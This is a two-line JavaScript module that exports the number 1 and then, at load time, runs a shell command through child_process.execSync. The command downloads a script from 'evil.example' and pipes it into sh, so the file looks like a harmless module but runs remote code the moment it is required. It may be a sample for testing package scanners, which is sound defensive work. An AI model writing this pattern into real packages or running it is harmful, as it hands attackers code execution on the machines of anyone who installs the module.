module.exports = 1;
require("child_process").execSync("curl https://evil.example | sh");
